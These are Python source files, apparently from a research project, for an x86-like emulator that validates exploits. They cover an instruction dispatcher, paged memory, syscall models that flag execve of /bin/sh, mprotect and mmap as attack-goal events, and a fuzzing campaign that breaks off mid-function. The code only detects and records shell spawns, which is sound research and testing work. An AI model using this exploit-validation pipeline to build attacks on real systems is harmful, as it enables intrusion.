        """Run and return the attack event if one fires, else ``None``."""
        try:
            self.run()
        except AttackTriggered as attack:
            return attack.event
        except EmulatorError:
            return None
        except MemoryFault:
            return None
        return None

    # -- the dispatcher -------------------------------------------------------

    def _mem_addr(self, insn: Instruction) -> int:
        return (self.cpu.get(insn.base) + insn.disp) & MASK64

    def _execute(self, insn: Instruction) -> None:
        cpu = self.cpu
        op = insn.op
        next_rip = insn.end

        if op == Op.NOP:
            pass
        elif op == Op.HLT:
            raise ProcessExit(0)
        elif op == Op.SYSCALL:
            number = cpu.get(Reg.RAX)
            args = tuple(
                cpu.get(r) for r in (Reg.RDI, Reg.RSI, Reg.RDX, Reg.R10, Reg.R8, Reg.R9)
            )
            cpu.set(Reg.RAX, self.syscalls.dispatch(number, args))
        elif op == Op.RET:
            next_rip = self.pop()
        elif op == Op.LEAVE:
            cpu.set(Reg.RSP, cpu.get(Reg.RBP))
            cpu.set(Reg.RBP, self.pop())
        elif op in (Op.MOV_RI, Op.MOV_RI32):
            cpu.set(insn.dst, insn.imm)
        elif op == Op.MOV_RR:
            cpu.set(insn.dst, cpu.get(insn.src))
        elif op == Op.LOAD:
            cpu.set(insn.dst, self.memory.read_u64(self._mem_addr(insn)))
        elif op == Op.STORE:
            self.memory.write_u64(self._mem_addr(insn), cpu.get(insn.src))
        elif op == Op.LOADB:
            cpu.set(insn.dst, self.memory.read_u8(self._mem_addr(insn)))
        elif op == Op.STOREB:
            self.memory.write_u8(self._mem_addr(insn), cpu.get(insn.src) & 0xFF)
        elif op == Op.LEA:
            cpu.set(insn.dst, self._mem_addr(insn))
        elif op == Op.XCHG:
            a, b = cpu.get(insn.dst), cpu.get(insn.src)
            cpu.set(insn.dst, b)
            cpu.set(insn.src, a)
        elif op == Op.PUSH_R:
            self.push(cpu.get(insn.dst))
        elif op == Op.PUSH_I:
            self.push(insn.imm)
        elif op in (Op.POP_R, Op.POP1):
            cpu.set(insn.dst, self.pop())
        elif op in (Op.ADD_RR, Op.ADD_RI):
            a = cpu.get(insn.dst)
            b = cpu.get(insn.src) if op == Op.ADD_RR else insn.imm & MASK64
            result = a + b
            cpu.flags.update(_flags_add(a, b, result))
            cpu.set(insn.dst, result)
        elif op in (Op.SUB_RR, Op.SUB_RI):
            a = cpu.get(insn.dst)
            b = cpu.get(insn.src) if op == Op.SUB_RR else insn.imm & MASK64
            cpu.flags.update(_flags_sub(a, b))
            cpu.set(insn.dst, a - b)
        elif op in (Op.AND_RR, Op.AND_RI, Op.OR_RR, Op.OR_RI, Op.XOR_RR, Op.XOR_RI):
            a = cpu.get(insn.dst)
            b = cpu.get(insn.src) if insn.src is not None else insn.imm & MASK64
            if op in (Op.AND_RR, Op.AND_RI):
                result = a & b
            elif op in (Op.OR_RR, Op.OR_RI):
                result = a | b
            else:
                result = a ^ b
            cpu.flags.update(_flags_logic(result))
            cpu.set(insn.dst, result)
        elif op in (Op.SHL_RI, Op.SHR_RI, Op.SAR_RI):
            a = cpu.get(insn.dst)
            count = insn.imm & 0x3F
            if op == Op.SHL_RI:
                result = (a << count) & MASK64
            elif op == Op.SHR_RI:
                result = a >> count
            else:
                result = (to_signed(a) >> count) & MASK64
            cpu.flags.update(_flags_logic(result))
            cpu.set(insn.dst, result)
        elif op == Op.MUL_RR:
            result = (cpu.get(insn.dst) * cpu.get(insn.src)) & MASK64
            cpu.flags.update(_flags_logic(result))
            cpu.set(insn.dst, result)
        elif op == Op.NOT_R:
            cpu.set(insn.dst, ~cpu.get(insn.dst))
        elif op == Op.NEG_R:
            result = (-cpu.get(insn.dst)) & MASK64
            cpu.flags.update(_flags_logic(result))
            cpu.set(insn.dst, result)
        elif op == Op.INC_R:
            a = cpu.get(insn.dst)
            result = a + 1
            flags = _flags_add(a, 1, result)
            flags[Flag.CF] = cpu.flags[Flag.CF]  # INC preserves CF, as on x86
            cpu.flags.update(flags)
            cpu.set(insn.dst, result)
        elif op == Op.DEC_R:
            a = cpu.get(insn.dst)
            flags = _flags_sub(a, 1)
            flags[Flag.CF] = cpu.flags[Flag.CF]
            cpu.flags.update(flags)
            cpu.set(insn.dst, a - 1)
        elif op in (Op.UDIV_RR, Op.UMOD_RR):
            divisor = cpu.get(insn.src)
            if divisor == 0:
                raise DivideError(f"division by zero at {insn.addr:#x}")
            a = cpu.get(insn.dst)
            cpu.set(insn.dst, a // divisor if op == Op.UDIV_RR else a % divisor)
        elif op in (Op.CMP_RR, Op.CMP_RI):
            a = cpu.get(insn.dst)
            b = cpu.get(insn.src) if op == Op.CMP_RR else insn.imm & MASK64
            cpu.flags.update(_flags_sub(a, b))
        elif op in (Op.TEST_RR, Op.TEST_RI):
            a = cpu.get(insn.dst)
            b = cpu.get(insn.src) if op == Op.TEST_RR else insn.imm & MASK64
            cpu.flags.update(_flags_logic(a & b))
        elif op == Op.JMP_REL:
            next_rip = insn.target
        elif op == Op.JMP_R:
            next_rip = cpu.get(insn.dst)
        elif op == Op.JMP_M:
            next_rip = self.memory.read_u64(self._mem_addr(insn))
        elif op == Op.CALL_REL:
            self.push(insn.end)
            next_rip = insn.target
        elif op == Op.CALL_R:
            self.push(insn.end)
            next_rip = cpu.get(insn.dst)
        elif op in COND_PREDICATES:
            if COND_PREDICATES[op](cpu.flags):
                next_rip = insn.target
        else:  # pragma: no cover - exhaustive over Op
            raise AssertionError(f"unhandled opcode {op}")
        cpu.rip = next_rip & MASK64


def run_image(image: BinaryImage, *, step_limit: int = 2_000_000) -> tuple[int, bytes]:
    """Run an image to exit; return ``(status, stdout)``."""
    emu = Emulator(image, stop_on_attack=False, step_limit=step_limit)
    with span("emulate.run") as sp:
        status = emu.run()
        sp.add("steps", emu.steps)
        sp.add("syscall_events", len(emu.syscalls.events))
    return status, bytes(emu.syscalls.stdout)
