"""Paged sparse memory with permissions for the concrete emulator."""

from __future__ import annotations

import struct
from dataclasses import dataclass
from typing import Dict, List, Tuple

PAGE_SIZE = 0x1000
PAGE_MASK = ~(PAGE_SIZE - 1)

PERM_R = 1
PERM_W = 2
PERM_X = 4


class MemoryFault(Exception):
    """A memory access violation (unmapped or permission mismatch)."""

    def __init__(self, addr: int, kind: str):
        super().__init__(f"memory fault: {kind} at {addr:#x}")
        self.addr = addr
        self.kind = kind


@dataclass
class Region:
    """A mapped region, for introspection via :meth:`Memory.mappings`."""

    start: int
    size: int
    perms: int

    @property
    def end(self) -> int:
        return self.start + self.size


class Memory:
    """Sparse paged memory.

    Pages are allocated lazily inside mapped regions.  Permissions are
    tracked per page so that ``mprotect`` can flip individual pages —
    the behaviour the mprotect attack goal depends on.
    """

    def __init__(self) -> None:
        self._pages: Dict[int, bytearray] = {}
        self._perms: Dict[int, int] = {}
        self._regions: List[Region] = []
        #: Bumped whenever a write lands in an executable page; the
        #: emulator uses it to invalidate its decoded-instruction cache
        #: (self-modifying code support).
        self.exec_write_gen = 0

    def map(self, start: int, size: int, perms: int) -> None:
        """Map ``[start, start+size)`` with the given permissions."""
        if size <= 0:
            raise ValueError("mapping size must be positive")
        first = start & PAGE_MASK
        last = (start + size - 1) & PAGE_MASK
        page = first
        while page <= last:
            self._perms[page] = perms
            page += PAGE_SIZE
        self._regions.append(Region(start=start, size=size, perms=perms))

    def protect(self, start: int, size: int, perms: int) -> None:
        """Change permissions on already-mapped pages (mprotect)."""
        first = start & PAGE_MASK
        last = (start + size - 1) & PAGE_MASK
        page = first
        while page <= last:
            if page not in self._perms:
                raise MemoryFault(page, "mprotect of unmapped page")
            self._perms[page] = perms
            page += PAGE_SIZE

    def mappings(self) -> Tuple[Region, ...]:
        return tuple(self._regions)

    def is_mapped(self, addr: int) -> bool:
        return (addr & PAGE_MASK) in self._perms

    def perms_at(self, addr: int) -> int:
        return self._perms.get(addr & PAGE_MASK, 0)

    def readable_run(self, addr: int, limit: int) -> int:
        """Contiguous readable bytes starting at ``addr``, capped at
        ``limit``.

        Walks page permissions only — never allocates or copies — so a
        guest-supplied multi-GiB ``limit`` costs O(mapped pages), not
        O(limit).  Syscall models use this to clamp guest-controlled
        lengths to what is actually mapped (partial-I/O semantics).
        """
        if limit <= 0:
            return 0
        run = 0
        page = addr & PAGE_MASK
        while self._perms.get(page, 0) & PERM_R:
            run = min(limit, page + PAGE_SIZE - addr)
            if run == limit:
                break
            page += PAGE_SIZE
        return run

    def _page_for(self, addr: int, needed: int, kind: str) -> bytearray:
        page_addr = addr & PAGE_MASK
        perms = self._perms.get(page_addr)
        if perms is None:
            raise MemoryFault(addr, f"{kind} of unmapped memory")
        if perms & needed != needed:
            raise MemoryFault(addr, f"{kind} permission denied")
        page = self._pages.get(page_addr)
        if page is None:
            page = bytearray(PAGE_SIZE)
            self._pages[page_addr] = page
        return page

    # -- byte-level primitives --------------------------------------------

    def read(self, addr: int, size: int, *, execute: bool = False) -> bytes:
        needed = PERM_X if execute else PERM_R
        kind = "execute" if execute else "read"
        out = bytearray()
        remaining = size
        cursor = addr
        while remaining > 0:
            page = self._page_for(cursor, needed, kind)
            off = cursor & (PAGE_SIZE - 1)
            take = min(remaining, PAGE_SIZE - off)
            out += page[off : off + take]
            cursor += take
            remaining -= take
        return bytes(out)

    def write(self, addr: int, data: bytes) -> None:
        remaining = len(data)
        cursor = addr
        src = 0
        while remaining > 0:
            page = self._page_for(cursor, PERM_W, "write")
            if self._perms.get(cursor & PAGE_MASK, 0) & PERM_X:
                self.exec_write_gen += 1
            off = cursor & (PAGE_SIZE - 1)
            take = min(remaining, PAGE_SIZE - off)
            page[off : off + take] = data[src : src + take]
            cursor += take
            src += take
            remaining -= take

    def write_initial(self, addr: int, data: bytes) -> None:
        """Populate memory ignoring the W permission (image loading)."""
        remaining = len(data)
        cursor = addr
        src = 0
        while remaining > 0:
            page_addr = cursor & PAGE_MASK
            if page_addr not in self._perms:
                raise MemoryFault(cursor, "load into unmapped memory")
            page = self._pages.setdefault(page_addr, bytearray(PAGE_SIZE))
            off = cursor & (PAGE_SIZE - 1)
            take = min(remaining, PAGE_SIZE - off)
            page[off : off + take] = data[src : src + take]
            cursor += take
            src += take
            remaining -= take

    # -- typed accessors ----------------------------------------------------

    def read_u64(self, addr: int) -> int:
        return struct.unpack("<Q", self.read(addr, 8))[0]

    def write_u64(self, addr: int, value: int) -> None:
        self.write(addr, struct.pack("<Q", value & ((1 << 64) - 1)))

    def read_u8(self, addr: int) -> int:
        return self.read(addr, 1)[0]

    def write_u8(self, addr: int, value: int) -> None:
        self.write(addr, bytes([value & 0xFF]))

    def read_cstring(self, addr: int, max_len: int = 4096) -> bytes:
        """Read a NUL-terminated string (without the terminator)."""
        out = bytearray()
        for i in range(max_len):
            b = self.read_u8(addr + i)
            if b == 0:
                return bytes(out)
            out.append(b)
        raise MemoryFault(addr, "unterminated string")
