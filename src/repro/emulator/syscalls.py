"""Linux-flavoured syscall models for the NFL machine.

Syscall numbers follow the x86-64 Linux ABI so the paper's attack goal
states transfer verbatim (``rax = 59`` → ``execve``).  The three
attack-relevant syscalls (``execve``, ``mprotect``, ``mmap``) are
modelled as *events*: the emulator records them with their decoded
arguments, and the exploit tests assert on the recorded event.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass, field
from typing import Callable, List, Optional

from .memory import Memory, MemoryFault, PAGE_SIZE, PERM_R, PERM_W, PERM_X

#: Linux PROT_* bits — numerically identical to the Memory PERM_* bits,
#: so validated prot values apply to pages unchanged.
PROT_NONE = 0
PROT_READ = PERM_R
PROT_WRITE = PERM_W
PROT_EXEC = PERM_X
PROT_ALL = PROT_READ | PROT_WRITE | PROT_EXEC

#: Where anonymous ``mmap(addr=0)`` allocations land when the handler
#: models the call (far from image, stack, and validation scratch).
MMAP_BASE = 0x7F0000000000

_EINVAL = -22 & ((1 << 64) - 1)
_ENOMEM = -12 & ((1 << 64) - 1)


class Sys(enum.IntEnum):
    """Syscall numbers (x86-64 Linux subset)."""

    READ = 0
    WRITE = 1
    MMAP = 9
    MPROTECT = 10
    MREMAP = 25
    EXIT = 60
    EXECVE = 59


@dataclass(frozen=True)
class SyscallEvent:
    """A record of one attack-relevant syscall invocation."""

    number: Sys
    args: tuple
    #: Decoded convenience fields:
    path: Optional[bytes] = None  # execve path
    addr: Optional[int] = None  # mprotect/mmap/mremap address
    length: Optional[int] = None  # mprotect/mmap length, mremap new_len
    prot: Optional[int] = None  # protection bits (never set for mremap)
    flags: Optional[int] = None  # mmap/mremap flags

    def is_shell_spawn(self, shell: bytes = b"/bin/sh") -> bool:
        return self.number == Sys.EXECVE and self.path == shell


class ProcessExit(Exception):
    """Raised when the guest calls ``exit``."""

    def __init__(self, status: int):
        super().__init__(f"exit({status})")
        self.status = status


class AttackTriggered(Exception):
    """Raised when an attack-goal syscall executes (stops the run)."""

    def __init__(self, event: SyscallEvent):
        super().__init__(f"attack syscall: {event.number.name}{event.args}")
        self.event = event


@dataclass
class SyscallHandler:
    """Dispatches syscalls against emulator memory.

    ``stop_on_attack`` makes attack-goal syscalls raise
    :class:`AttackTriggered`, which exploit-validation uses as its
    success signal.
    """

    memory: Memory
    stop_on_attack: bool = True
    stdout: bytearray = field(default_factory=bytearray)
    events: List[SyscallEvent] = field(default_factory=list)
    #: Policy hook (e.g. a W^X model): called as ``filter(sys_no, args)``
    #: after argument validation but before the syscall takes effect or
    #: is recorded as an event.  Returning an int vetoes the call with
    #: that value as the guest-visible return; returning ``None`` lets
    #: it proceed.  ``None`` (the default) is byte-for-byte the
    #: historical behaviour.
    syscall_filter: Optional[Callable[[Sys, tuple], Optional[int]]] = None
    #: Bump allocator for modelled anonymous ``mmap(addr=0)`` calls.
    mmap_cursor: int = MMAP_BASE

    def dispatch(self, number: int, args: tuple) -> int:
        """Handle syscall ``number`` with up to six ``args``; returns rax."""
        try:
            sys_no = Sys(number)
        except ValueError:
            return -38 & ((1 << 64) - 1)  # -ENOSYS
        if sys_no == Sys.WRITE:
            return self._sys_write(args)
        if sys_no == Sys.READ:
            return 0  # EOF
        if sys_no == Sys.EXIT:
            raise ProcessExit(args[0] & 0xFF)
        if sys_no == Sys.EXECVE:
            veto = self._veto(sys_no, args)
            if veto is not None:
                return veto
            return self._attack_event(self._decode_execve(args))
        if sys_no == Sys.MPROTECT:
            return self._sys_mprotect(args)
        if sys_no == Sys.MMAP:
            veto = self._veto(sys_no, args)
            if veto is not None:
                return veto
            return self._attack_event(
                SyscallEvent(
                    Sys.MMAP,
                    args[:6],
                    addr=args[0],
                    length=args[1],
                    prot=args[2],
                    flags=args[3],
                )
            )
        if sys_no == Sys.MREMAP:
            veto = self._veto(sys_no, args)
            if veto is not None:
                return veto
            # mremap(old_addr, old_size, new_size, flags, new_addr) has
            # no prot argument — decoding it like mmap mislabelled
            # new_size/flags as prot and misreported the goal state.
            return self._attack_event(
                SyscallEvent(
                    Sys.MREMAP,
                    args[:5],
                    addr=args[0],
                    length=args[2],
                    flags=args[3],
                )
            )
        raise AssertionError(f"unhandled syscall {sys_no}")  # pragma: no cover

    def _sys_write(self, args: tuple) -> int:
        _fd, buf, count = args[0], args[1], args[2]
        if count == 0:
            return 0
        # Never trust the guest length: clamp to the contiguous mapped
        # run so a corrupted payload asking for a multi-GiB read cannot
        # OOM the host.  Like the kernel, write what is readable
        # (partial-write semantics) and fault only when nothing is.
        readable = self.memory.readable_run(buf, count)
        if readable == 0:
            return -14 & ((1 << 64) - 1)  # -EFAULT
        try:
            data = self.memory.read(buf, readable)
        except MemoryFault:  # pragma: no cover - readable_run said ok
            return -14 & ((1 << 64) - 1)
        self.stdout += data
        return readable

    def _veto(self, sys_no: "Sys", args: tuple) -> Optional[int]:
        if self.syscall_filter is None:
            return None
        return self.syscall_filter(sys_no, args)

    def _sys_mprotect(self, args: tuple) -> int:
        addr, length, prot = args[0], args[1], args[2]
        # Kernel semantics: addr must be page-aligned and prot must be a
        # combination of PROT_READ|WRITE|EXEC, else -EINVAL *before* any
        # effect (and before any policy hook sees a malformed request).
        # length need not be aligned — it is rounded up to whole pages.
        if addr % PAGE_SIZE != 0 or prot & ~PROT_ALL:
            return _EINVAL
        veto = self._veto(Sys.MPROTECT, args)
        if veto is not None:
            return veto
        return self._attack_event(
            SyscallEvent(Sys.MPROTECT, args[:3], addr=addr, length=length, prot=prot)
        )

    def _decode_execve(self, args: tuple) -> SyscallEvent:
        path_ptr = args[0]
        try:
            path = self.memory.read_cstring(path_ptr)
        except MemoryFault:
            path = None
        return SyscallEvent(Sys.EXECVE, args[:3], path=path)

    def _attack_event(self, event: SyscallEvent) -> int:
        self.events.append(event)
        if self.stop_on_attack:
            raise AttackTriggered(event)
        if event.number == Sys.MPROTECT and event.addr is not None:
            # Model the real effect (the *requested* permissions, over
            # whole pages) so follow-on shellcode jumps work — or fault.
            length = max(event.length or 0, 1)
            try:
                self.memory.protect(event.addr, length, event.prot or 0)
            except MemoryFault:
                return _EINVAL
            return 0
        if event.number == Sys.MMAP:
            return self._model_mmap(event)
        return 0

    def _model_mmap(self, event: SyscallEvent) -> int:
        """Model an anonymous mapping so the caller can use the region.

        Only reached with ``stop_on_attack`` off (payload *demos* that
        run past the goal syscall); validation never gets here.
        """
        length = event.length or 0
        prot = event.prot or 0
        if length <= 0 or prot & ~PROT_ALL:
            return _EINVAL
        pages = (length + PAGE_SIZE - 1) // PAGE_SIZE
        addr = event.addr or 0
        if addr == 0:
            addr = self.mmap_cursor
            self.mmap_cursor += pages * PAGE_SIZE
        elif addr % PAGE_SIZE != 0:
            return _EINVAL
        if any(
            self.memory.is_mapped(addr + i * PAGE_SIZE) for i in range(pages)
        ):
            return _ENOMEM  # no MAP_FIXED clobbering in the model
        self.memory.map(addr, pages * PAGE_SIZE, prot)
        return addr
