"""Linux-flavoured syscall models for the NFL machine.

Syscall numbers follow the x86-64 Linux ABI so the paper's attack goal
states transfer verbatim (``rax = 59`` → ``execve``).  The three
attack-relevant syscalls (``execve``, ``mprotect``, ``mmap``) are
modelled as *events*: the emulator records them with their decoded
arguments, and the exploit tests assert on the recorded event.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass, field
from typing import List, Optional

from .memory import Memory, MemoryFault, PERM_R, PERM_W, PERM_X


class Sys(enum.IntEnum):
    """Syscall numbers (x86-64 Linux subset)."""

    READ = 0
    WRITE = 1
    MMAP = 9
    MPROTECT = 10
    MREMAP = 25
    EXIT = 60
    EXECVE = 59


@dataclass(frozen=True)
class SyscallEvent:
    """A record of one attack-relevant syscall invocation."""

    number: Sys
    args: tuple
    #: Decoded convenience fields:
    path: Optional[bytes] = None  # execve path
    addr: Optional[int] = None  # mprotect/mmap/mremap address
    length: Optional[int] = None  # mprotect/mmap length, mremap new_len
    prot: Optional[int] = None  # protection bits (never set for mremap)
    flags: Optional[int] = None  # mmap/mremap flags

    def is_shell_spawn(self, shell: bytes = b"/bin/sh") -> bool:
        return self.number == Sys.EXECVE and self.path == shell


class ProcessExit(Exception):
    """Raised when the guest calls ``exit``."""

    def __init__(self, status: int):
        super().__init__(f"exit({status})")
        self.status = status


class AttackTriggered(Exception):
    """Raised when an attack-goal syscall executes (stops the run)."""

    def __init__(self, event: SyscallEvent):
        super().__init__(f"attack syscall: {event.number.name}{event.args}")
        self.event = event


@dataclass
class SyscallHandler:
    """Dispatches syscalls against emulator memory.

    ``stop_on_attack`` makes attack-goal syscalls raise
    :class:`AttackTriggered`, which exploit-validation uses as its
    success signal.
    """

    memory: Memory
    stop_on_attack: bool = True
    stdout: bytearray = field(default_factory=bytearray)
    events: List[SyscallEvent] = field(default_factory=list)

    def dispatch(self, number: int, args: tuple) -> int:
        """Handle syscall ``number`` with up to six ``args``; returns rax."""
        try:
            sys_no = Sys(number)
        except ValueError:
            return -38 & ((1 << 64) - 1)  # -ENOSYS
        if sys_no == Sys.WRITE:
            return self._sys_write(args)
        if sys_no == Sys.READ:
            return 0  # EOF
        if sys_no == Sys.EXIT:
            raise ProcessExit(args[0] & 0xFF)
        if sys_no == Sys.EXECVE:
            return self._attack_event(self._decode_execve(args))
        if sys_no == Sys.MPROTECT:
            return self._attack_event(
                SyscallEvent(Sys.MPROTECT, args[:3], addr=args[0], length=args[1], prot=args[2])
            )
        if sys_no == Sys.MMAP:
            return self._attack_event(
                SyscallEvent(
                    Sys.MMAP,
                    args[:6],
                    addr=args[0],
                    length=args[1],
                    prot=args[2],
                    flags=args[3],
                )
            )
        if sys_no == Sys.MREMAP:
            # mremap(old_addr, old_size, new_size, flags, new_addr) has
            # no prot argument — decoding it like mmap mislabelled
            # new_size/flags as prot and misreported the goal state.
            return self._attack_event(
                SyscallEvent(
                    Sys.MREMAP,
                    args[:5],
                    addr=args[0],
                    length=args[2],
                    flags=args[3],
                )
            )
        raise AssertionError(f"unhandled syscall {sys_no}")  # pragma: no cover

    def _sys_write(self, args: tuple) -> int:
        _fd, buf, count = args[0], args[1], args[2]
        if count == 0:
            return 0
        # Never trust the guest length: clamp to the contiguous mapped
        # run so a corrupted payload asking for a multi-GiB read cannot
        # OOM the host.  Like the kernel, write what is readable
        # (partial-write semantics) and fault only when nothing is.
        readable = self.memory.readable_run(buf, count)
        if readable == 0:
            return -14 & ((1 << 64) - 1)  # -EFAULT
        try:
            data = self.memory.read(buf, readable)
        except MemoryFault:  # pragma: no cover - readable_run said ok
            return -14 & ((1 << 64) - 1)
        self.stdout += data
        return readable

    def _decode_execve(self, args: tuple) -> SyscallEvent:
        path_ptr = args[0]
        try:
            path = self.memory.read_cstring(path_ptr)
        except MemoryFault:
            path = None
        return SyscallEvent(Sys.EXECVE, args[:3], path=path)

    def _attack_event(self, event: SyscallEvent) -> int:
        self.events.append(event)
        if self.stop_on_attack:
            raise AttackTriggered(event)
        if event.number == Sys.MPROTECT and event.addr is not None:
            # Model the real effect so follow-on shellcode jumps work.
            try:
                self.memory.protect(event.addr, event.length or 1, PERM_R | PERM_W | PERM_X)
            except MemoryFault:
                return -22 & ((1 << 64) - 1)  # -EINVAL
            return 0
        return 0
