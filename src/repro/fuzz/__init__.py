"""repro.fuzz — deterministic differential fuzzing across the stack.

The reproduction maintains five semantically-coupled views of every
binary: the compiler, the concrete emulator, the symbolic executor,
the static-analysis prefilter, and the winnowed gadget pools.  This
package hunts for disagreements between them with seeded generators
(:mod:`.gen`), a bank of cross-layer oracles (:mod:`.oracles`), an
auto-shrinker (:mod:`.shrink`), and a permanent regression corpus
(:mod:`.corpus`); :mod:`.campaign` ties them into the ``nfl fuzz``
command.
"""

from .campaign import ORACLE_NAMES, SCHEDULE, FuzzFailure, FuzzReport, OracleStats, run_fuzz
from .corpus import (
    CORPUS_VERSION,
    DEFAULT_CORPUS,
    case_from_dict,
    case_to_dict,
    find_repo_corpus,
    load_corpus,
    replay_corpus,
    save_case,
)
from .gen import gen_bytes, gen_program, gen_window, relayout, spec_of
from .oracles import (
    Case,
    Inconclusive,
    check_obfuscation,
    check_pipeline,
    check_planner,
    check_prefilter,
    check_roundtrip,
    check_serialize,
    check_window,
    check_winnow,
    run_case,
)
from .shrink import shrink_case, window_chain, window_insn_count

__all__ = [
    "ORACLE_NAMES",
    "SCHEDULE",
    "FuzzFailure",
    "FuzzReport",
    "OracleStats",
    "run_fuzz",
    "CORPUS_VERSION",
    "DEFAULT_CORPUS",
    "case_from_dict",
    "case_to_dict",
    "find_repo_corpus",
    "load_corpus",
    "replay_corpus",
    "save_case",
    "gen_bytes",
    "gen_program",
    "gen_window",
    "relayout",
    "spec_of",
    "Case",
    "Inconclusive",
    "check_obfuscation",
    "check_pipeline",
    "check_planner",
    "check_prefilter",
    "check_roundtrip",
    "check_serialize",
    "check_window",
    "check_winnow",
    "run_case",
    "shrink_case",
    "window_chain",
    "window_insn_count",
]
