"""The deterministic fuzzing campaign (what ``nfl fuzz`` runs).

Each iteration derives one ``random.Random`` per oracle from
``(seed, iteration, oracle)``, so a campaign is a pure function of its
seed: two runs with the same arguments produce byte-identical
summaries (no wall-clock, no paths, no ordering races on stdout).

Cheap oracles (round-trip, emulator-vs-symex) run every iteration;
expensive ones (winnow, pipeline, planner, obfuscation) run on fixed
sparse schedules so ``--iters 200`` stays within a CI smoke budget.
When the caller restricts ``--oracle``, the schedule collapses to
every-iteration for the selected oracles.

Failures are auto-shrunk and, when a corpus directory is available,
banked as permanent regression cases.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field
from pathlib import Path
from typing import Dict, List, Optional, Sequence

from ..emulator.cpu import Emulator
from ..gadgets.extract import ExtractionConfig, extract_gadgets
from ..binfmt.image import make_image
from ..isa.encoding import encode_program
from ..obs import metrics, span
from .corpus import save_case
from .gen import gen_bytes, gen_program, gen_window
from .oracles import (
    Case,
    EmulatorFactory,
    check_obfuscation,
    check_pipeline,
    check_planner,
    check_prefilter,
    check_roundtrip,
    check_serialize,
    check_window,
    check_winnow,
)
from .shrink import shrink_case, window_insn_count

#: Oracle name → (period, phase): runs on iterations i % period == phase.
SCHEDULE = {
    "roundtrip": (1, 0),
    "emu_symex": (1, 0),
    "prefilter": (5, 2),
    "winnow": (10, 3),
    "serialize": (10, 3),
    "pipeline": (50, 7),
    "planner": (100, 41),
    "obfuscation": (25, 11),
}

ORACLE_NAMES = tuple(SCHEDULE)

#: Configs the obfuscation-equivalence oracle rotates through (cheap
#: single-pass configs; the heavyweight VM/JIT ones are covered by the
#: tier-1 suite).
_OBF_ROTATION = ("substitution", "bogus_control_flow", "flattening", "encode_data", "llvm_obf")


@dataclass
class FuzzFailure:
    oracle: str
    iteration: int
    messages: List[str]
    case: Case
    shrunk: Case
    banked: Optional[str] = None  # corpus filename, when banked


@dataclass
class OracleStats:
    runs: int = 0
    failures: int = 0


@dataclass
class FuzzReport:
    seed: int
    iters: int
    stats: Dict[str, OracleStats] = field(default_factory=dict)
    failures: List[FuzzFailure] = field(default_factory=list)

    @property
    def total_failures(self) -> int:
        return len(self.failures)

    def summary(self) -> str:
        lines = [f"fuzz seed={self.seed} iters={self.iters}"]
        for name in ORACLE_NAMES:
            stat = self.stats.get(name)
            if stat is None or stat.runs == 0:
                continue
            lines.append(f"  {name:<12} runs={stat.runs:<4} failures={stat.failures}")
        for failure in self.failures:
            size = window_insn_count(failure.shrunk) if failure.shrunk.kind == "window" else 0
            where = f" -> {failure.banked}" if failure.banked else ""
            detail = failure.messages[0] if failure.messages else ""
            extra = f" ({size} insns)" if size else ""
            lines.append(
                f"  FAIL [{failure.oracle}] iter {failure.iteration}{extra}{where}: {detail}"
            )
        verdict = "OK" if not self.failures else "FAILURES"
        lines.append(f"result: {verdict} ({len(self.failures)} failure(s))")
        return "\n".join(lines)


def run_fuzz(
    seed: int = 0,
    iters: int = 100,
    *,
    oracles: Optional[Sequence[str]] = None,
    emulator_factory: EmulatorFactory = Emulator,
    corpus_dir: Optional[Path] = None,
    shrink: bool = True,
) -> FuzzReport:
    """Run a deterministic campaign; returns the (stable) report."""
    if oracles is not None:
        unknown = set(oracles) - set(ORACLE_NAMES)
        if unknown:
            raise ValueError(f"unknown oracle(s): {', '.join(sorted(unknown))}")
    enabled = tuple(oracles) if oracles is not None else ORACLE_NAMES
    explicit = oracles is not None
    report = FuzzReport(seed=seed, iters=iters)
    counters = metrics()

    def due(name: str, i: int) -> bool:
        if name not in enabled:
            return False
        if explicit:
            return True
        period, phase = SCHEDULE[name]
        return i % period == phase

    def record(name: str, i: int, case: Case, messages: List[str]) -> None:
        stat = report.stats.setdefault(name, OracleStats())
        stat.runs += 1
        counters.counter("fuzz.runs").inc()
        if not messages:
            return
        stat.failures += 1
        counters.counter("fuzz.failures").inc()
        shrunk = case
        if shrink:
            with span("fuzz.shrink"):
                shrunk = shrink_case(case, emulator_factory=emulator_factory)
        banked = None
        if corpus_dir is not None:
            note = messages[0]
            path = save_case(Path(corpus_dir), shrunk, description=note)
            banked = path.name
            counters.counter("fuzz.banked").inc()
        report.failures.append(
            FuzzFailure(
                oracle=name,
                iteration=i,
                messages=messages,
                case=case,
                shrunk=shrunk,
                banked=banked,
            )
        )

    with span("fuzz") as root:
        for i in range(iters):
            if due("roundtrip", i):
                rng = random.Random(f"{seed}:{i}:roundtrip")
                if i % 2 == 0:
                    data = gen_bytes(rng, 48)
                else:
                    data = encode_program(gen_window(rng))
                case = Case(oracle="roundtrip", kind="image", text=data)
                with span("fuzz.roundtrip"):
                    record("roundtrip", i, case, check_roundtrip(data))
            if due("emu_symex", i):
                rng = random.Random(f"{seed}:{i}:emu_symex")
                if i % 3 == 2:
                    text = gen_bytes(rng, 40)
                    offset = rng.randrange(0, max(1, len(text) - 4))
                else:
                    text = encode_program(gen_window(rng))
                    offset = 0
                case = Case(
                    oracle="emu_symex",
                    kind="window",
                    text=text,
                    offset=offset,
                    env_seed=rng.randrange(1 << 16),
                )
                with span("fuzz.emu_symex"):
                    messages = check_window(
                        case.text,
                        case.offset,
                        case.env_seed,
                        max_insns=case.max_insns,
                        max_paths=case.max_paths,
                        emulator_factory=emulator_factory,
                    )
                record("emu_symex", i, case, messages)
            if due("prefilter", i):
                rng = random.Random(f"{seed}:{i}:prefilter")
                text = gen_bytes(rng, 56) if i % 2 else encode_program(gen_window(rng))
                case = Case(oracle="prefilter", kind="image", text=text, max_insns=6, max_paths=6)
                with span("fuzz.prefilter"):
                    record(
                        "prefilter", i, case, check_prefilter(text, max_insns=6, max_paths=6)
                    )
            if due("winnow", i) or due("serialize", i):
                rng = random.Random(f"{seed}:{i}:winnow")
                text = b"".join(encode_program(gen_window(rng, max_body=3)) for _ in range(3))
                if due("winnow", i):
                    case = Case(oracle="winnow", kind="image", text=text)
                    with span("fuzz.winnow"):
                        record("winnow", i, case, check_winnow(text))
                if due("serialize", i):
                    case = Case(oracle="serialize", kind="image", text=text)
                    with span("fuzz.serialize"):
                        records = extract_gadgets(
                            make_image(text),
                            ExtractionConfig(max_insns=5, max_paths=4, max_candidates=64),
                        )
